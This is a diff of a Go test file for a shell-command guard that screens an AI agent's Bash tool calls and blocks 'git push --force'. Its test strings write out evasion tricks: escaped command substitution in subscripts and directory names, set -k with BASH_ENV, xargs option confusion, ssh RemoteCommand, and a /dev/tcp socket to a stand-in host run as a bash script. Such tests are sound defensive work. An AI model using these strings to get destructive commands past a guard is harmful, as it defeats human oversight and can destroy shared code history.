@@ -1292,9 +1292,6 @@ func TestIndirectionOverMadeNames(t *testing.T) {
 	}
 }
 
-// identifiers reads $'…' text as written: $'a[\x79]' is a[y] to bash, but
-// its reads are [x79].
-
 // TestEscapedSubscriptNames: a subscript written with $'…' escapes
 // ($'a[\x79]' is a[y]) is not what its text shows. Found by a fourth
 // reader.
@@ -1304,9 +1301,6 @@ func TestEscapedSubscriptNames(t *testing.T) {
 		`read y < <(printf 'b[\x24(git push --force)]'); test -v $'a[\x79]'`,
 	})
 }
-
-// Variables bash sets from run-time values without being named: REPLY
-// (read with no name, select), BASH_REMATCH.
 
 // TestVariablesSetWithoutBeingNamed: read with no name sets REPLY, select
 // sets REPLY, [[ =~ ]] sets BASH_REMATCH: values made at run time all.
@@ -1320,9 +1314,6 @@ func TestVariablesSetWithoutBeingNamed(t *testing.T) {
 	})
 }
 
-// set -k makes NAME=value anywhere in a command's arguments an assignment
-// to its environment: BASH_ENV given to bash after -c.
-
 // TestSetKeywordIsUnreadable: with set -k, NAME=value anywhere in a
 // command's words sets its environment (bash -c : BASH_ENV=…). Found by a
 // fourth reader.
@@ -1333,10 +1324,6 @@ func TestSetKeywordIsUnreadable(t *testing.T) {
 	})
 }
 
-// runTimeWords now scans every word after xargs, so a later -I/-i in the
-// command's own arguments (sh -c '…' -I Q: $0 and $1) replaces xargs' real
-// -I{}, and the {} xargs fills is read as written.
-
 // TestXargsOptionsEndAtTheCommand: xargs' options end at its command; a
 // later -I Q belongs to the command and must not hide the {} xargs fills.
 // Found by a fourth reader.
@@ -1346,11 +1333,6 @@ func TestXargsOptionsEndAtTheCommand(t *testing.T) {
 		`echo push | xargs -I{} sh -c 'git {} --force' -iQ`,
 	})
 }
-
-// Everyday commands the df4eb45 change made asked/held under the docs'
-// example: grep -ir / sed -ie after xargs read as xargs -i with replace
-// string r / e, which makes the command word (grep, sed) a run-time word;
-// ${#x} (a length, a number) counted as reading x in arithmetic.
 
 // TestCommandOptionsAndLengthsStayReadable: a command's own -ir or -ie
 // after xargs is not xargs -i, and ${#x} is a length: both stay readable.
@@ -1577,5 +1559,22 @@ func stillAllowed(t *testing.T, cases []allowCase) {
 		if got := routeOf(t, docsShell, "Bash", map[string]string{"command": tc.cmd}, `{"cwd":"/repo"}`); got != "other-shell" {
 			t.Errorf("%q under the docs' example: route %s, want other-shell", tc.cmd, got)
 		}
+	}
+}
+
+// TestBranchesOnlyTheseCommandsReach: cases no other test needs a branch
+// of the reading for, so each branch fails a test when it goes: ssh's
+// RemoteCommand, a socket opened on another descriptor and read as a
+// script, code in the working directory's name read through $PWD, and at
+// with nothing fed (its standard input is the agent's), which stays
+// readable.
+func TestBranchesOnlyTheseCommandsReach(t *testing.T) {
+	forcePushesNeverAllowed(t, []string{
+		`ssh -o RemoteCommand='git push --force' host`,
+		`exec 3>/dev/tcp/h/1; cd /dev/fd && bash 3`,
+		`cd '/tmp/a[$(git push --force)]' && echo $(( ${PWD##*/} ))`,
+	})
+	if got := routeOf(t, docsShell, "Bash", map[string]string{"command": "at now"}, `{"cwd":"/repo"}`); got != "other-shell" {
+		t.Errorf("at now: route %s, want other-shell", got)
 	}
 }
